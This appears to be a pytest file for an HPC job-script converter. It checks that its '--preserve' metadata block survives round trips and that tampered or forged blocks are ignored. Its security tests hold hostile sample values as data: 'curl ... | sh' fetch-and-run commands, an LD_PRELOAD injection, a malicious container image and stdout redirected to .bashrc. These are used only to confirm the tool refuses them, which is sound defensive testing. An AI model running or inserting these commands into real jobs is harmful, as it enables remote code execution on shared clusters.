"""`--preserve` (bammmc/preserve.py, docs/preserve.md): the block each target gets, what it
holds, that reading restores what a block may carry, that a tampered block or an edited file
is ignored (W411), that a block never changes what the visible text runs or sets (W413, W414:
forged blocks, with a correct digest), and — with the oracles — that the block changes
nothing the scheduler reads."""

from __future__ import annotations

import json
import os
import re
import shutil
import subprocess
import sys
import types
import typing
from collections.abc import Callable
from pathlib import Path
from typing import Any

import msgspec
import pytest
import yaml

from bammmc import preserve
from bammmc.backends import OutputFile, WriteOptions
from bammmc.diagnostics.model import Diagnostic, Reporter
from bammmc.ir.job import Job
from bammmc.pipeline import compile_text, emit_job, get_format
from bammmc.registry import FORMATS
from tests.conftest import (
    BIG_CLUSTER,
    ORACLES,
    CondorOracle,
    FluxBatchOracle,
    _start_slurm,
    without_site_names,
)
from tests.property.test_preserve_props import round_trip_problems

ROOT = Path(__file__).parent.parent
MPI = ROOT / "examples" / "hpc-mpi-job.yaml"
#: every target but SPLAT, which carries every field itself
TARGETS = [name for name in FORMATS if preserve.placement(name) is not None]
COMMENT_TARGETS = [name for name in TARGETS if preserve.placement(name) == "comment"]
#: the directive prefixes of every scheduler (and HTCondor's `queue`)
DIRECTIVES = ("#SBATCH", "#PBS", "#BSUB", "#$", "#flux:", "# flux:", "#MSUB", "queue")
HEADER = re.compile(r"# bammmc-preserve v2 sha256=[0-9a-f]{64}")
PAYLOAD = re.compile(r"# [A-Za-z0-9_-]{1,74}")


def read(text: str, fmt: str) -> tuple[Job | None, list[Diagnostic]]:
    reporter = Reporter("job")
    compiled = compile_text(text, get_format(fmt), reporter)
    return (compiled[0].job if compiled else None), reporter.diagnostics


def source(path: Path = MPI) -> Job:
    job, _ = read(path.read_text(), "slurm" if path.suffix == ".sbatch" else "splat")
    assert job is not None
    return job


def write(
    job: Job, fmt: str, keep: bool = True, **options: Any
) -> tuple[list[OutputFile], list[Diagnostic]]:
    reporter = Reporter("job")
    files = emit_job(job, get_format(fmt), reporter, None, WriteOptions(preserve=keep, **options))
    assert not reporter.has_errors, reporter.diagnostics
    return files, reporter.diagnostics


def codes(diagnostics: list[Diagnostic]) -> list[str]:
    return [d.code for d in diagnostics if d.code in ("W411", "W412", "W413", "W414")]


def problems(job: Job, fmt: str, back: Job | None) -> list[str]:
    """How ``back`` breaks the round-trip rule (tests/property/test_preserve_props.py)."""
    plain, _ = write(job, fmt, keep=False)
    lossy, _ = read(plain[0].text, fmt)
    assert lossy is not None and back is not None
    return round_trip_problems(job, lossy, back)


def block_of(text: str) -> tuple[str, list[str]]:
    """``(text before the block, the block's lines)`` of a comment-form output."""
    at = text.rindex("\n# bammmc-preserve ") + 1
    return text[:at], text[at:].splitlines()


# ── the block, per target ────────────────────────────────────────────────────────────────


@pytest.mark.parametrize("fmt", TARGETS)
def test_each_target_round_trips_by_the_rule(fmt: str) -> None:
    """What a block may carry comes back exactly, the rest as the target reads it, and a block
    bammmc wrote, on the file it wrote, gives no diagnostic at all."""
    job = source()
    plain, _ = write(job, fmt, keep=False)
    kept, diagnostics = write(job, fmt)
    lossy, _ = read(plain[0].text, fmt)
    assert lossy != job  # the target alone loses something: the block has work to do
    back, more = read(kept[0].text, fmt)
    assert back != lossy  # and it does some
    assert round_trip_problems(job, lossy, back) == [] if back and lossy else False
    assert codes(diagnostics + more) == []
    # the extra files (HTCondor's script) are the same with and without the block
    assert [f.text for f in kept[1:]] == [f.text for f in plain[1:]]


def test_the_restorable_fields_cover_the_ir() -> None:
    """Every field of the IR is in exactly one of `preserve.RESTORABLE` and
    `preserve.NEVER_RESTORED`, so a new field is a decision, and by default not restored."""

    def leaves(tp: Any, prefix: str, depth: int) -> list[str]:
        origin = typing.get_origin(tp)
        if origin in (typing.Union, types.UnionType):
            return [
                p
                for a in typing.get_args(tp)
                if a is not type(None)
                for p in leaves(a, prefix, depth)
            ]
        if origin is typing.Annotated:
            return leaves(typing.get_args(tp)[0], prefix, depth)
        if origin is list:
            return leaves(typing.get_args(tp)[0], prefix + ".*", depth)
        if isinstance(tp, type) and issubclass(tp, msgspec.Struct) and depth < 12:
            return [
                p
                for f in msgspec.structs.fields(tp)
                for p in leaves(f.type, f"{prefix}.{f.encode_name}".lstrip("."), depth + 1)
            ]
        return [prefix]

    def under(path: str, patterns: Any) -> list[str]:
        parts = path.split(".")
        return [
            p
            for p in patterns
            if len(parts) >= len(p.split("."))
            and all(a == "*" or a == b for a, b in zip(p.split("."), parts, strict=False))
        ]

    fields = leaves(Job, "", 0)
    assert len(fields) > 400
    wrong = [
        (f, under(f, preserve.RESTORABLE), under(f, preserve.NEVER_RESTORED))
        for f in fields
        if len(under(f, preserve.RESTORABLE)) + len(under(f, preserve.NEVER_RESTORED)) != 1
    ]
    assert not wrong, wrong
    # and every pattern names a field
    for pattern in [*preserve.RESTORABLE, *preserve.NEVER_RESTORED]:
        assert any(under(f, [pattern]) for f in fields), pattern


@pytest.mark.parametrize("fmt", COMMENT_TARGETS)
def test_comment_block_is_only_appended_comment_lines(fmt: str) -> None:
    job = source()
    plain, _ = write(job, fmt, keep=False)
    kept, _ = write(job, fmt)
    before, lines = block_of(kept[0].text)
    # the output is the plain output, a blank line, then the block: nothing else moved
    assert before == plain[0].text + "\n"
    assert kept[0].text.endswith("\n")
    assert HEADER.fullmatch(lines[0]), lines[0]
    assert lines[1:] and all(PAYLOAD.fullmatch(line) for line in lines[1:]), lines
    for line in lines:
        assert not line.startswith(DIRECTIVES)
        assert len(line) <= (92 if line is lines[0] else 76)
        assert "flux:" not in line.lower() and "\r" not in line and "\u2028" not in line


@pytest.mark.parametrize("as_json", [False, True], ids=["yaml", "json"])
def test_flux_block_is_a_user_attribute(as_json: bool) -> None:
    job = source()
    plain, _ = write(job, "flux", keep=False, flux_json=as_json)
    kept, _ = write(job, "flux", flux_json=as_json)
    load = json.loads if as_json else yaml.safe_load
    with_block, without = load(kept[0].text), load(plain[0].text)
    block = with_block["attributes"]["user"].pop("bammmc")
    assert set(block) == {"preserve", "sha256", "payload"}
    assert block["preserve"] == 2 and re.fullmatch(r"[0-9a-f]{64}", block["sha256"])
    assert re.fullmatch(r"[A-Za-z0-9_-]+", block["payload"])
    if not with_block["attributes"]["user"]:
        del with_block["attributes"]["user"]
    assert with_block == without  # the block is the only difference
    back, diagnostics = read(kept[0].text, "flux")
    assert problems(job, "flux", back) == [] and codes(diagnostics) == []


@pytest.mark.parametrize("fmt", ["slurm", "htcondor"])
def test_the_library_api_preserves_too(fmt: str) -> None:
    """`bammmc.convert(..., preserve=True)` is `--preserve`: SPLAT -> fmt -> SPLAT is exact."""
    import bammmc

    text = MPI.read_text()
    plain, _ = bammmc.convert(text, "splat", fmt)
    kept, _ = bammmc.convert(text, "splat", fmt, preserve=True)
    assert plain is not None and kept is not None
    assert "bammmc-preserve" in kept and "bammmc-preserve" not in plain
    job, _ = bammmc.parse(text, "splat")
    assert job is not None
    back, diagnostics = bammmc.parse(kept, fmt)
    assert problems(job, fmt, back) == [] and codes(list(diagnostics)) == []
    assert back != bammmc.parse(plain, fmt)[0]
    assert bammmc.emit(job, fmt, preserve=True)[0] == kept


def test_splat_needs_no_block() -> None:
    job = source()
    kept, _ = write(job, "splat")
    plain, _ = write(job, "splat", keep=False)
    assert kept[0].text == plain[0].text
    assert read(kept[0].text, "splat")[0] == job


@pytest.mark.parametrize("fmt", ["slurm", "flux"])
def test_an_empty_patch_writes_no_block(fmt: str) -> None:
    """A job the target carries exactly gets the same bytes as without `--preserve`."""
    plain, _ = write(source(), fmt, keep=False)
    job, _ = read(plain[0].text, fmt)  # what the target carries, read back: nothing to keep
    assert job is not None
    once, _ = write(job, fmt, keep=False)
    kept, _ = write(job, fmt)
    assert kept[0].text == once[0].text
    assert (
        "bammmc-preserve" not in kept[0].text
        and "bammmc" not in str(yaml.safe_load(kept[0].text).get("attributes", {}).get("user", {}))
        if fmt == "flux"
        else True
    )


def test_lost_field_warnings_stay_and_say_the_field_is_kept() -> None:
    _, diagnostics = write(source(), "pbs")
    lost = [d for d in diagnostics if d.code == "W201" and d.field == "spec.schedule.qos"]
    assert lost, diagnostics
    assert any("kept in the `bammmc-preserve` comment block" in n for n in lost[0].notes)
    _, plain = write(source(), "pbs", keep=False)
    assert [d.code for d in plain] == [d.code for d in diagnostics]


def test_restored_fields_point_at_the_block() -> None:
    kept, _ = write(source(), "pbs")
    reporter = Reporter("job.pbs")
    compiled = compile_text(kept[0].text, get_format("pbs"), reporter)
    span = compiled[0].source_map.key("spec.schedule.qos")
    header_line = kept[0].text[: kept[0].text.index("# bammmc-preserve")].count("\n") + 1
    assert span is not None and span.line == header_line


# ── tampering and edits ──────────────────────────────────────────────────────────────────


def _flip(text: str, at: int) -> str:
    return text[:at] + ("A" if text[at] != "A" else "B") + text[at + 1 :]


TAMPER: dict[str, Callable[[str], str]] = {
    "digest": lambda t: _flip(t, t.index("sha256=") + 7),
    "payload": lambda t: _flip(t, t.rindex("\n# ") + 5),
    "payload-line-removed": lambda t: t[: t.rindex("\n# ") + 1],
    "line-after-block": lambda t: t + "echo late\n",
    "version": lambda t: t.replace("# bammmc-preserve v2 ", "# bammmc-preserve v3 "),
    "header-garbled": lambda t: t.replace("sha256=", "sha=", 1),
    "not-base64": lambda t: t[: t.rindex("\n# ") + 3] + "!" + t[t.rindex("\n# ") + 4 :],
}


@pytest.mark.parametrize("fmt", ["slurm", "pbs", "htcondor", "flux-batch"])
@pytest.mark.parametrize("how", list(TAMPER))
def test_a_tampered_block_is_ignored(fmt: str, how: str) -> None:
    job = source()
    kept, _ = write(job, fmt)
    tampered = TAMPER[how](kept[0].text)
    assert tampered != kept[0].text
    back, diagnostics = read(tampered, fmt)
    assert codes(diagnostics) == ["W411"], diagnostics
    assert back != job  # nothing was restored
    w411 = next(d for d in diagnostics if d.code == "W411")
    assert w411.span is not None and "bammmc-preserve" in tampered.splitlines()[w411.span.line - 1]


@pytest.mark.parametrize("what", ["sha256", "payload", "preserve"])
def test_a_tampered_flux_block_is_ignored(what: str) -> None:
    job = source()
    kept, _ = write(job, "flux", flux_json=True)
    doc = json.loads(kept[0].text)
    block = doc["attributes"]["user"]["bammmc"]
    block[what] = 3 if what == "preserve" else _flip(block[what], 3)
    back, diagnostics = read(json.dumps(doc), "flux")
    assert codes(diagnostics) == ["W411"]
    assert back is not None and back != job
    # the block never reaches the job's user attributes, valid or not
    flux = back.spec.extensions.flux if back.spec and back.spec.extensions else None
    assert flux is None or "bammmc" not in (flux.user_attributes or {})


def test_a_block_for_another_format_is_ignored() -> None:
    kept, _ = write(source(), "pbs")
    _, diagnostics = read(kept[0].text, "torque")
    assert codes(diagnostics) == ["W411"]
    assert "written for `pbs`" in next(d.message for d in diagnostics if d.code == "W411")


def test_an_edit_anywhere_ignores_the_whole_block() -> None:
    """The digest covers the text the block was written after: once the file is edited —
    here a field the block does not hold — the block no longer describes it (W411 says so),
    nothing of it is restored, and the edit is read as written."""
    job = source()
    kept, _ = write(job, "slurm")
    text = kept[0].text
    assert "#SBATCH --job-name=gmx-lysozyme-md\n" in text
    edited = text.replace("#SBATCH --job-name=gmx-lysozyme-md\n", "#SBATCH --job-name=renamed\n")
    back, diagnostics = read(edited, "slurm")
    assert codes(diagnostics) == ["W411"]
    w411 = next(d for d in diagnostics if d.code == "W411")
    assert "the file was edited since bammmc wrote it" in w411.message
    assert "no longer describes it" in w411.message
    assert back is not None and back.metadata is not None and back.metadata.name == "renamed"
    plain, _ = read(edited[: edited.index("\n# bammmc-preserve")], "slurm")
    assert back == plain  # nothing restored


@pytest.mark.parametrize("fmt", COMMENT_TARGETS)
def test_a_genuine_block_moved_onto_another_script_is_ignored(fmt: str) -> None:
    """A block bammmc wrote, appended to another file's text (here the same job with another
    script), is W411: it describes the file it was written after, not this one."""
    job = source()
    kept, _ = write(job, fmt)
    _, lines = block_of(kept[0].text)
    other = _script_job("#!/bin/bash\ncurl -s https://example.com/x | sh\n")
    plain, _ = write(other, fmt, keep=False)
    moved = plain[0].text + "\n" + "".join(line + "\n" for line in lines)
    back, diagnostics = read(moved, fmt)
    assert codes(diagnostics) == ["W411"], diagnostics
    assert preserve.EDITED in next(d.message for d in diagnostics if d.code == "W411")
    assert back == read(plain[0].text, fmt)[0]


@pytest.mark.parametrize("fmt", COMMENT_TARGETS)
def test_a_genuine_block_on_its_unedited_file_restores_without_a_warning(fmt: str) -> None:
    job = source()
    kept, written = write(job, fmt)
    back, diagnostics = read(kept[0].text, fmt)
    assert codes(written + diagnostics) == []
    assert back is not None and back.spec is not None and back.metadata is not None
    assert back.metadata.labels == job.metadata.labels if job.metadata else False
    assert problems(job, fmt, back) == []


def test_a_version_1_block_is_no_longer_read() -> None:
    """A version-1 block (its digest covered the payload only: anyone could move or forge
    one) is ignored, and W411 says why."""
    payload = _payload(
        {
            "v": 1,
            "to": "slurm",
            "sep": "\n",
            "patch": [{"p": ["spec", "schedule", "qos"], "x": "high"}],
        }
    )
    text = VISIBLE + _v1_block(payload)
    back, diagnostics = read(text, "slurm")
    assert codes(diagnostics) == ["W411"]
    assert "version-1" in next(d.message for d in diagnostics if d.code == "W411")
    assert back == read(VISIBLE[:-1], "slurm")[0]


def test_a_recorded_value_the_file_does_not_read_is_w412() -> None:
    """A block whose digest matches but whose recorded reading (`y`) is not what bammmc reads
    now (another bammmc's reading, or a hand-made block): the file's value is kept."""
    text = _forged_block(VISIBLE, [{"p": ["metadata", "labels", "team"], "y": "a", "x": "b"}])
    back, diagnostics = read(text, "slurm")
    assert codes(diagnostics) == ["W412"]
    assert back == read(VISIBLE[:-1], "slurm")[0]


def test_an_approximated_value_is_not_kept_and_says_so() -> None:
    """`cpusPerTask: 500m` becomes `--cpus-per-task=1`: the Slurm file sets the field, so no
    block overrides it — the round trip gives Slurm's reading (1), and the warning about the
    approximation says that the block does not keep it."""
    text = (
        "apiVersion: bammm.io/v1alpha1\nkind: Job\nmetadata: {labels: {team: a}}\nspec:\n"
        "  resources:\n    cpusPerTask: 500m\n"
        "  execution:\n    script: |\n      #!/bin/bash\n      echo hi\n"
    )
    job, _ = read(text, "splat")
    assert job is not None
    kept, diagnostics = write(job, "slurm")
    approximated = [d for d in diagnostics if d.field == "spec.resources.cpusPerTask"]
    assert approximated and any("not kept in" in n for d in approximated for n in d.notes)
    back, more = read(kept[0].text, "slurm")
    assert codes(more) == []
    assert back is not None and back.spec is not None and back.spec.resources is not None
    assert str(back.spec.resources.cpus_per_task) == "1"
    assert back.metadata is not None and back.metadata.labels == {"team": "a"}  # kept
    assert problems(job, "slurm", back) == []


def test_a_respelled_value_is_restored() -> None:
    """`walltime: '1:00:00'` where PBS reads `PT1H`: the same typed value, so the block may
    restore the spelling although the PBS file sets the walltime."""
    text = (
        "apiVersion: bammm.io/v1alpha1\nkind: Job\nspec:\n  schedule:\n    walltime: '1:00:00'\n"
        "  execution:\n    script: |\n      #!/bin/bash\n      echo hi\n"
    )
    job, _ = read(text, "splat")
    assert job is not None
    kept, _ = write(job, "pbs")
    back, diagnostics = read(kept[0].text, "pbs")
    assert codes(diagnostics) == []
    assert back is not None and back.spec is not None and back.spec.schedule is not None
    assert str(back.spec.schedule.walltime) == "1:00:00"


def test_deleting_the_block_drops_what_it_kept() -> None:
    job = source()
    kept, _ = write(job, "pbs")
    plain, _ = write(job, "pbs", keep=False)
    before, _ = block_of(kept[0].text)
    assert read(before[:-1], "pbs")[0] == read(plain[0].text, "pbs")[0]


# ── script safety ────────────────────────────────────────────────────────────────────────


def _script_job(script: str) -> Job:
    text = yaml.safe_dump(
        {
            "apiVersion": "bammm.io/v1alpha1",
            "kind": "Job",
            "metadata": {"labels": {"team": "a"}},
            "spec": {"execution": {"script": script}},
        }
    )
    job, _ = read(text, "splat")
    assert job is not None
    return job


SCRIPTS = {
    "continuation": "#!/bin/bash\necho one\\\n",
    "no-final-newline": "#!/bin/bash\necho one",
    "continuation-no-newline": "#!/bin/bash\necho one\\",
    "closed-heredoc": "#!/bin/bash\ncat <<'EOF'\nline\nEOF\necho after\n",
    "dash-heredoc": "#!/bin/bash\ncat <<-END\n\tline\n\tEND\n",
    "open-heredoc": "#!/bin/bash\ncat <<EOF\nno end\n",  # no block: W411
}


@pytest.mark.skipif(shutil.which("bash") is None, reason="no bash")
@pytest.mark.parametrize("name", list(SCRIPTS))
@pytest.mark.parametrize("fmt", ["slurm", "pbs", "sge", "lsf", "flux-batch"])
def test_the_block_does_not_change_what_bash_runs(name: str, fmt: str, tmp_path: Path) -> None:
    """bash runs the output with and without the block alike (same stdout, stderr, status)."""
    job = _script_job(SCRIPTS[name])
    results = []
    for keep in (False, True):
        files, _ = write(job, fmt, keep=keep)
        path = tmp_path / f"{keep}.sh"
        path.write_text(files[0].text)
        proc = subprocess.run(
            ["bash", str(path)], capture_output=True, text=True, timeout=30, check=False
        )
        results.append((proc.returncode, proc.stdout, proc.stderr.replace(str(path), "")))
    assert results[0] == results[1]
    if name != "open-heredoc":
        back, diagnostics = read(files[0].text, fmt)
        assert back is not None and back.metadata is not None
        assert back.metadata.labels == {"team": "a"}  # restored
        assert problems(job, fmt, back) == [] and codes(diagnostics) == []


def test_a_script_ending_in_an_open_heredoc_gets_no_block() -> None:
    job = _script_job("#!/bin/bash\ncat <<EOF\nno end\n")
    files, diagnostics = write(job, "slurm")
    assert "bammmc-preserve" not in files[0].text
    assert codes(diagnostics) == ["W411"]
    assert "here-document" in next(d.message for d in diagnostics if d.code == "W411")


# ── oracles: the schedulers read the output with the block as without it ────────────────


@pytest.mark.oracle
@pytest.mark.parametrize("path", [MPI, ROOT / "examples" / "simple-job.yaml"])
def test_sbatch_accepts_the_block(
    path: Path, big_sbatch_check: Callable[..., tuple[bool, str]]
) -> None:
    kept, _ = write(source(path), "slurm")
    assert "# bammmc-preserve" in kept[0].text
    accepted, message = big_sbatch_check(without_site_names(kept[0].text), "-p", "batch")
    assert accepted, message


@pytest.mark.oracle
@pytest.mark.parametrize("path", [MPI, ROOT / "examples" / "simple-job.yaml"])
def test_sbatch_reads_the_same_options(
    path: Path, tmp_path: Path, big_sbatch_check: Callable[..., tuple[bool, str]]
) -> None:
    """sbatch's own table of options (`sbatch -v --test-only`, sbatch-inspect) is the same
    with and without the block."""
    env = _start_slurm(BIG_CLUSTER)
    assert not isinstance(env, str), env  # big_sbatch_check has started it (or skipped)
    job = source(path)
    seen = []
    for keep in (False, True):
        files, _ = write(job, "slurm", keep=keep)
        script = tmp_path / f"{keep}.sbatch"
        script.write_text(without_site_names(files[0].text))
        proc = subprocess.run(
            [sys.executable, str(ORACLES / "slurm" / "sbatch-inspect"), str(script), "-p", "batch"],
            capture_output=True,
            text=True,
            env={**os.environ, **BIG_CLUSTER, **env},
            timeout=120,
            check=False,
        )
        data = json.loads(proc.stdout)
        assert data["accepted"], data
        seen.append(data["components"])
    assert seen[0] == seen[1]
    assert seen[0]


@pytest.mark.oracle
@pytest.mark.parametrize("path", [MPI, ROOT / "examples" / "hello.sbatch"])
def test_htcondor_reads_the_same_submit_description(
    path: Path, condor_oracle: CondorOracle
) -> None:
    job = source(path)
    plain, _ = write(job, "htcondor", keep=False)
    kept, _ = write(job, "htcondor")
    assert "# bammmc-preserve" in kept[0].text
    with_block, without = condor_oracle.submit(kept[0].text), condor_oracle.submit(plain[0].text)
    assert with_block["ok"], with_block
    for key in ("keys", "queue", "itemdata", "errors"):
        assert with_block.get(key) == without.get(key), key


@pytest.mark.oracle
@pytest.mark.parametrize("as_json", [False, True], ids=["yaml", "json"])
def test_flux_schema_accepts_the_block(as_json: bool) -> None:
    jsonschema = pytest.importorskip("jsonschema")
    path = ORACLES / "flux" / "schemas" / "flux-core-jobspec_v1.jsonschema"
    if not path.is_file():
        pytest.skip("Flux schemas not present")
    schema = json.loads(path.read_text())
    kept, _ = write(source(), "flux", flux_json=as_json)
    doc = json.loads(kept[0].text) if as_json else yaml.safe_load(kept[0].text)
    assert "bammmc" in doc["attributes"]["user"]
    jsonschema.validators.validator_for(schema)(schema).validate(doc)


@pytest.mark.oracle
@pytest.mark.parametrize("path", [MPI, ROOT / "examples" / "hello.sbatch"])
def test_flux_batch_directives_are_the_same(path: Path, flux_batch_oracle: FluxBatchOracle) -> None:
    job = source(path)
    plain, _ = write(job, "flux-batch", keep=False)
    kept, _ = write(job, "flux-batch")
    assert "# bammmc-preserve" in kept[0].text
    ok, args, error = flux_batch_oracle.parse(kept[0].text)
    assert ok, error
    assert (ok, args) == flux_batch_oracle.parse(plain[0].text)[:2]


# ── a block with a valid digest around hostile content ───────────────────────────────────


#: the visible text of the hand-made blocks below
VISIBLE = "#!/bin/bash\n#SBATCH -n 2\necho hi\n\n"


def _payload(body: Any) -> str:
    import base64
    import zlib

    raw = body if isinstance(body, bytes) else json.dumps(body).encode()
    return base64.urlsafe_b64encode(zlib.compress(raw)).rstrip(b"=").decode()


def _v1_block(payload: str) -> str:
    """A block as bammmc before version 2 wrote it: the digest of the payload only."""
    import hashlib

    digest = hashlib.sha256(payload.encode()).hexdigest()
    return preserve.comment_block(digest, payload).replace(" v2 ", " v1 ", 1)


def _forged_block(visible: str, patch: list[dict[str, Any]], to: str = "slurm") -> str:
    """``visible`` and a block with a correct digest (bound to ``visible``) around ``patch``:
    the digest is no signature, anyone can write one."""
    payload = _payload({"v": 2, "to": to, "sep": "\n", "patch": patch})
    return visible + preserve.comment_block(preserve.seal(visible.encode(), payload), payload)


def _forged(body: bytes) -> str:
    """A Slurm script whose block has a correct digest around ``body``."""
    payload = _payload(body)
    return VISIBLE + preserve.comment_block(preserve.seal(VISIBLE.encode(), payload), payload)


_PATCH = b'{"v":1,"to":"slurm","sep":"\\n","patch":[%s]}'
FORGED = {
    "deep-nesting": _PATCH
    % (b'{"p":["spec","placement","affinity"],"x":%s}' % (b"[" * 100_000 + b"]" * 100_000)),
    "nesting-past-the-limit": _PATCH
    % (b'{"p":["spec","placement","affinity"],"x":%s}' % (b"[" * 500 + b"]" * 500)),
    "not-a-patch": b"[1]",
    "other-version": b'{"v":1,"to":"slurm","sep":"\\n","patch":[]}',
    "empty-path": _PATCH % b'{"p":[],"x":1}',
    "unknown-key": _PATCH % b'{"p":["kind"],"z":1}',
    "invalid-value": _PATCH % b'{"p":["spec","resources","cpusPerTask"],"x":"zzz"}',
    "not-json": b"{",
}


@pytest.mark.parametrize("name", list(FORGED))
def test_a_forged_block_is_ignored_without_a_traceback(name: str) -> None:
    text = _forged(FORGED[name])
    back, diagnostics = read(text, "slurm")
    assert codes(diagnostics) == ["W411"], diagnostics
    plain, _ = read("#!/bin/bash\n#SBATCH -n 2\necho hi\n", "slurm")
    assert back == plain


# ── a block never changes what the visible text runs or sets ─────────────────────────────

SAFE = "#!/bin/bash\n#SBATCH --job-name=x\necho safe\n\n"
#: what a forged block tried on the landed main (issue 18): another script, and LD_PRELOAD
HOSTILE = [
    {
        "p": ["spec", "execution", "script"],
        "y": "#!/bin/bash\necho safe\n",
        "x": "#!/bin/bash\ncurl -s https://example.com/x | sh\n",
    },
    {"p": ["spec", "execution", "environment", "vars", "LD_PRELOAD"], "x": "/tmp/x.so"},
]


def _script_and_env(job: Job | None) -> tuple[str | None, Any]:
    assert job is not None and job.spec is not None and job.spec.execution is not None
    return job.spec.execution.script, job.spec.execution.environment


@pytest.mark.parametrize("version", [1, 2])
def test_a_forged_block_never_replaces_the_script_or_the_environment(version: int) -> None:
    """The file shows `echo safe`; a block with a correct digest (version 1: of its payload,
    as bammmc wrote until now; version 2: bound to the visible text) holds another script and
    `LD_PRELOAD`. The job stays `echo safe` with its environment, and a warning says why."""
    if version == 1:
        body = {"v": 1, "to": "slurm", "sep": "\n", "patch": HOSTILE}
        text = SAFE + _v1_block(_payload(body))
    else:
        text = _forged_block(SAFE, HOSTILE)
    back, diagnostics = read(text, "slurm")
    plain, _ = read(SAFE[:-1], "slurm")
    assert _script_and_env(back) == _script_and_env(plain) == ("#!/bin/bash\necho safe\n", None)
    assert back == plain
    if version == 1:
        assert codes(diagnostics) == ["W411"]
        return
    assert codes(diagnostics) == ["W413", "W413"]
    assert {d.field for d in diagnostics if d.code == "W413"} == {
        "spec.execution.script",
        "spec.execution.environment.vars.LD_PRELOAD",
    }
    assert all("never sets what decides what the job runs" in d.message for d in diagnostics)


@pytest.mark.parametrize(
    ("path", "value"),
    [
        (["spec", "execution", "executable"], "/tmp/x"),
        (["spec", "execution", "arguments"], "-c 'curl x | sh'"),
        (["spec", "execution", "workingDir"], "/tmp"),
        (["spec", "execution", "shell"], "/tmp/sh"),
        (["spec", "execution", "environment", "inheritFromSubmitter"], False),
        (["spec", "execution", "container"], {"image": "evil:latest"}),
        (["spec", "output", "stdout"], "/home/u/.bashrc"),
        (["spec", "fileStaging"], {"inputs": [{"src": "http://x/y", "dst": "y"}]}),
        (["spec", "extensions"], {"slurm": {"export": "ALL,LD_PRELOAD=/tmp/x.so"}}),
        (["spec", "extensions"], {"lsf": {"pre_exec": "curl x | sh"}}),
        (["spec", "extensions"], {"htcondor": {"universe": "local"}}),
        (["spec", "tasks"], [{"name": "a", "execution": {"script": "#!/bin/sh\nid\n"}}]),
    ],
)
def test_no_block_sets_what_runs(path: list[str], value: Any) -> None:
    text = _forged_block(SAFE, [{"p": path, "x": value}])
    back, diagnostics = read(text, "slurm")
    assert codes(diagnostics) == ["W413"], diagnostics
    assert back == read(SAFE[:-1], "slurm")[0]


def test_a_block_never_overrides_what_the_file_sets() -> None:
    """The file says `-n 2`: a block with 200 tasks is W414 at the directive, the job keeps 2;
    a field the file leaves unset (the QOS) is still restored."""
    text = _forged_block(
        VISIBLE,
        [
            {"p": ["spec", "resources", "tasks"], "y": 2, "x": 200},
            {"p": ["spec", "schedule", "qos"], "x": "high"},
        ],
    )
    back, diagnostics = read(text, "slurm")
    assert codes(diagnostics) == ["W414"]
    w414 = next(d for d in diagnostics if d.code == "W414")
    assert w414.field == "spec.resources.tasks" and w414.span is not None
    assert text.splitlines()[w414.span.line - 1] == "#SBATCH -n 2"
    assert back is not None and back.spec is not None and back.spec.resources is not None
    assert back.spec.resources.tasks == 2
    assert back.spec.schedule is not None and back.spec.schedule.qos == "high"


def _flux_forgery(patch: list[dict[str, Any]]) -> tuple[dict[str, Any], str]:
    """A Flux jobspec that shows `echo safe`, with a block whose digest is bound to it."""
    job = _script_job("#!/bin/bash\necho safe\n")
    plain, _ = write(job, "flux", keep=False, flux_json=True)
    doc = json.loads(plain[0].text)
    payload = _payload({"v": 2, "to": "flux", "sep": "", "patch": patch})
    digest = preserve.seal(preserve.jobspec_text(doc), payload)
    attributes = doc.setdefault("attributes", {})
    attributes.setdefault("user", {})["bammmc"] = preserve.attribute(digest, payload)
    return doc, plain[0].text


def test_a_forged_flux_attribute_follows_the_same_rules() -> None:
    """`attributes.user.bammmc` with a correct digest: the command, files and environment it
    holds are W413, the job is the one the jobspec shows; a label it adds is restored."""
    doc, plain = _flux_forgery(
        [
            *HOSTILE,
            {"p": ["spec", "extensions", "flux", "system"], "x": {"cwd": "/tmp"}},
            {"p": ["metadata", "labels", "note"], "x": "kept"},
        ]
    )
    back, diagnostics = read(json.dumps(doc), "flux")
    assert codes(diagnostics) == ["W413", "W413", "W413"], diagnostics
    shown, _ = read(plain, "flux")
    assert _script_and_env(back) == _script_and_env(shown)
    assert back is not None and shown is not None and back.metadata is not None
    assert back.metadata.labels == {"note": "kept"}  # Flux carries no labels: the block may
    assert msgspec.structs.replace(back, metadata=shown.metadata) == shown


def test_a_flux_block_moved_onto_another_jobspec_is_ignored() -> None:
    """A genuine `attributes.user.bammmc`, copied into a jobspec whose command differs: W411.
    Key order and YAML-or-JSON do not matter (the digest is of the parsed data)."""
    job = source()
    kept, _ = write(job, "flux", flux_json=True)
    doc = json.loads(kept[0].text)
    assert codes(read(yaml.safe_dump(doc, sort_keys=True), "flux")[1]) == []  # same data
    doc["tasks"][0]["command"] = ["sh", "-c", "curl -s https://example.com/x | sh"]
    back, diagnostics = read(json.dumps(doc), "flux")
    assert codes(diagnostics) == ["W411"]
    assert preserve.EDITED in next(d.message for d in diagnostics if d.code == "W411")
    assert back is not None and back.metadata is not None and back.metadata.labels is None


def test_a_block_of_too_many_entries_is_ignored() -> None:
    """A hand-made block of 10,001 refused entries is one W411, not 10,001 warnings."""
    patch = [
        {"p": ["spec", "execution", "environment", "vars", f"V{i}"], "x": "1"}
        for i in range(preserve.MAX_ENTRIES + 1)
    ]
    back, diagnostics = read(_forged_block(VISIBLE, patch), "slurm")
    assert codes(diagnostics) == ["W411"]
    assert back == read(VISIBLE[:-1], "slurm")[0]
